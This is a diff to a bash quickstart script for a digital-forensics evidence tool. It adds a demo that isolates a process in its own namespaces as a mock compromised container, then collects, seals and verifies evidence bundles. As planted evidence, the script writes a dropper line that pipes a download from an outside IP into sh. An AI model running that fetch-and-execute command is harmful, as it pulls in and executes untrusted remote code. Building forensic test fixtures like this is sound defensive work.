@@ -1,7 +1,10 @@
 #!/usr/bin/env bash
-# End to end on a fresh machine: build forensic, make a key, lay out an evidence directory the way the
-# incident-response checklist does (/tmp/evidence/<timestamp>/), seal it into one bundle, verify it,
-# and check it again with nothing but unzip and sha256sum.
+# End to end on a fresh machine, no container runtime needed (run as root):
+#  1. a live collection: a process started in its own PID, network, mount and UTS namespaces stands in
+#     for a compromised container; `forensic collect --pid` preserves it into a sealed bundle, which
+#     `forensic verify` then checks;
+#  2. the manual path: an evidence directory laid out the way the incident-response checklist does
+#     (/tmp/evidence/<timestamp>/) is sealed, verified, and checked again with unzip and sha256sum.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 cargo build --release --quiet -p forensic
@@ -9,6 +12,35 @@ forensic=$PWD/target/release/forensic
 work=$(mktemp -d "${TMPDIR:-/tmp}/forensic-quickstart.XXXXXX")
 echo "working in $work"
 
+"$forensic" keygen -o "$work/responder"
+
+echo "== 1. live collection from a process in its own namespaces"
+# The "container": sleep in a tiny root of its own (the binary and its libraries), with a dropped file.
+rootfs=$work/victim-root
+mkdir -p "$rootfs/bin" "$rootfs/proc" "$rootfs/tmp" "$rootfs/etc"
+cp /bin/sleep "$rootfs/bin/sleep"
+for lib in $(ldd /bin/sleep | grep -o '/[^ ]*'); do
+  mkdir -p "$rootfs$(dirname "$lib")" && cp "$lib" "$rootfs$lib"
+done
+printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > "$rootfs/tmp/dropper.sh"
+chmod 755 "$rootfs/tmp/dropper.sh"
+echo 'root:x:0:0:root:/root:/bin/sh' > "$rootfs/etc/passwd"
+unshare --fork --kill-child --pid --net --mount --uts --mount-proc --root="$rootfs" /bin/sleep 600 &
+ns_parent=$!
+trap 'kill -KILL "$ns_parent" 2> /dev/null || true' EXIT
+target=
+for _ in $(seq 50); do
+  target=$(pgrep -P "$ns_parent" || true)
+  [ -n "$target" ] && break
+  sleep 0.1
+done
+"$forensic" collect --pid "$target" -o "$work/live.zip" --key "$work/responder.key" \
+  --case DEMO-1 --examiner "$(id -un)" --evidence-number 1 --quiet
+"$forensic" verify "$work/live.zip" --trust "$work/responder.pub" --quiet
+kill -KILL "$ns_parent" 2> /dev/null || true
+echo
+
+echo "== 2. sealing a directory of hand-collected evidence"
 ev=$work/evidence/$(date +%Y%m%d-%H%M%S)
 mkdir -p "$ev/files"
 # What the checklist's commands write by hand (captured outputs stand in for a live cluster).
@@ -25,9 +57,8 @@ printf '/tmp/.x/miner\n' > "$ev/tmp-files.txt"
 printf '/dev/shm/payload.sh\n' > "$ev/shm-files.txt"
 printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > "$ev/files/payload.sh"
 
-"$forensic" keygen -o "$work/responder"
 "$forensic" seal "$ev" -o "$work/case.zip" --key "$work/responder.key" \
-  --case DEMO-1 --examiner "$(id -un)" --evidence-number 1 --note "quickstart demo"
+  --case DEMO-1 --examiner "$(id -un)" --evidence-number 2 --note "quickstart demo"
 echo
 "$forensic" verify "$work/case.zip" --trust "$work/responder.pub"
 echo
@@ -36,4 +67,4 @@ unzip -tq "$work/case.zip"
 mkdir "$work/copy" && unzip -q "$work/case.zip" -d "$work/copy"
 (cd "$work/copy" && sha256sum -c --quiet SHA256SUMS && echo "sha256sum -c SHA256SUMS: all OK")
 echo
-echo "bundle: $work/case.zip"
+echo "bundles: $work/live.zip $work/case.zip"
